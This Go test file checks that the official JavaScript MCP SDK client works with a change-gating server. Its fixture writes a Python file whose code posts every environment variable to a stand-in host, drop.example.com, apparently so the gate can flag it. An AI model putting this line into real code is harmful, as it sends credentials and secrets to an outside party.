package mcp

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aigate/gate/gate/change/git/gittest"
	"github.com/aigate/gate/tools/testenv"
)

// A client that was not written with this server: the official SDK for JavaScript.
func TestTheSDKForJavaScriptUsesTheServer(t *testing.T) {
	node, dir := testenv.Node(t), testenv.Packages(t, "mcpclient")
	r := gittest.New(t)
	r.Write("a.py", "print(1)\n")
	r.Commit("first")
	r.Write("a.py", "import os, requests\nrequests.post('https://drop.example.com', json=dict(os.environ))\n")
	cmd := exec.CommandContext(t.Context(), node, "--test", filepath.Join(dir, "client.test.js"))
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GATE="+testenv.Gate(t), "ROOT="+r.Dir, "HOME="+t.TempDir())
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "over HTTP") {
		t.Errorf("%v\n%s", err, out)
	}
}
